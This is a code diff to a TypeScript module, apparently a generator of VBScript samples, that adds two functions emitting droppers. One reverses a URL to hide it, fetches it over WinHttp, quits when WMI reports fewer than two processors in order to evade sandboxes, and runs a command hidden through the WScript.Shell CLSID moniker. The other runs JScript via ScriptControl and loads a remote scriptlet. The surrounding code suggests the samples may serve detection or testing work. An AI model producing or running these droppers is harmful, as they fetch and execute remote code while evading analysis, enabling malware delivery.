@@ -204,3 +204,41 @@ export function adminInventoryScript(): string {
     'shell.Run "notepad.exe C:\\Reports\\inventory.csv", 1, False',
   ].join('\r\n');
 }
+
+/** A dropper organised as a Class with a property setter, a sandbox check that quits, and a CLSID moniker. */
+export function classDropper(opts: { url: string; command: string }): string {
+  return [
+    'Class Loader',
+    '  Private target',
+    '  Public Property Let Address(value)',
+    '    target = StrReverse(value)',
+    '  End Property',
+    '  Public Function Fetch()',
+    '    Dim http : Set http = CreateObject("WinHttp.WinHttpRequest.5.1")',
+    '    http.Open "GET", target, False',
+    '    http.Send',
+    '    Fetch = http.ResponseText',
+    '  End Function',
+    'End Class',
+    'Dim wmi, n',
+    'Set wmi = GetObject("winmgmts:\\\\.\\root\\cimv2")',
+    'n = 0',
+    'For Each p In wmi.ExecQuery("Select * From Win32_ComputerSystem") : n = p.NumberOfLogicalProcessors : Next',
+    "' A sandbox has one processor: stop there.",
+    'If n < 2 Then WScript.Quit',
+    'Dim l : Set l = New Loader',
+    `l.Address = ${literal([...opts.url].reverse().join(''))}`,
+    'l.Fetch',
+    `GetObject("new:{72C24DD5-D70A-438B-8A42-98424B88AFB8}").Run ${literal(opts.command)}, 0`,
+  ].join('\r\n');
+}
+
+/** VBScript that hands JScript to a ScriptControl, and loads a remote scriptlet. */
+export function scriptControlDropper(jscript: string, scriptletUrl: string): string {
+  return [
+    'Set sc = CreateObject("MSScriptControl.ScriptControl")',
+    'sc.Language = "JScript"',
+    `sc.AddCode ${literal(jscript)}`,
+    `Set o = GetObject("script:${scriptletUrl}")`,
+  ].join('\r\n');
+}
